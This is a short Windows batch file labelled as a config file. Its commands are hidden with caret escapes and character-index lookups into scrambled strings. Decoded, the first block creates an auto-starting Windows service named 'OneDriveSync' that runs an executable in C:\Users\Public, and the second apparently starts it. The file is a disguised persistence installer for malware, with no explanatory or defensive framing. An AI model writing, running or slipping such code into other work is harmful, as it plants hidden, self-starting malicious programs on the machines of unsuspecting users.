REM config 7188 v3
@e^cho o^f^f
se^t "nlpz=hauOlStCvbJy/GVND\r.UdgRxsnmYoePci:k"
%nlpz:~25,1%%nlpz:~-4,1% %nlpz:~32,1%%nlpz:~-18,1%%nlpz:~30,1%%nlpz:~-35,1%%nlpz:~6,1%%nlpz:~30,1% %nlpz:~3,1%%nlpz:~26,1%%nlpz:~-6,1%%nlpz:~16,1%%nlpz:~-18,1%%nlpz:~-3,1%%nlpz:~-28,1%%nlpz:~30,1%%nlpz:~5,1%%nlpz:~-25,1%%nlpz:~26,1%%nlpz:~-4,1% %nlpz:~9,1%%nlpz:~33,1%%nlpz:~26,1%%nlpz:~31,1%%nlpz:~1,1%%nlpz:~-30,1%%nlpz:~0,1%= "%nlpz:~32,1%%nlpz:~-9,1%%nlpz:~21,1%%nlpz:~19,1%%nlpz:~30,1%%nlpz:~-12,1%%nlpz:~30,1% %nlpz:~12,1%%nlpz:~-4,1% %nlpz:~7,1%%nlpz:~34,1%%nlpz:~17,1%%nlpz:~-16,1%%nlpz:~25,1%%nlpz:~30,1%%nlpz:~18,1%%nlpz:~25,1%%nlpz:~17,1%%nlpz:~31,1%%nlpz:~-34,1%%nlpz:~9,1%%nlpz:~4,1%%nlpz:~33,1%%nlpz:~-4,1%%nlpz:~17,1%%nlpz:~-11,1%%nlpz:~8,1%%nlpz:~32,1%%nlpz:~19,1%%nlpz:~30,1%%nlpz:~24,1%%nlpz:~30,1%" %nlpz:~-11,1%%nlpz:~-30,1%%nlpz:~-35,1%%nlpz:~-18,1%%nlpz:~6,1%= %nlpz:~1,1%%nlpz:~-34,1%%nlpz:~6,1%%nlpz:~29,1%
@ech^o off
^se^t "xoud=oZx4nVreyatb0DiOvSLsc"
%xoud:~-2,1%%xoud:~20,1% %xoud:~19,1%%xoud:~10,1%%xoud:~9,1%%xoud:~-15,1%%xoud:~-11,1% %xoud:~15,1%%xoud:~4,1%%xoud:~7,1%%xoud:~13,1%%xoud:~-15,1%%xoud:~-7,1%%xoud:~-5,1%%xoud:~7,1%%xoud:~17,1%%xoud:~-13,1%%xoud:~4,1%%xoud:~20,1%
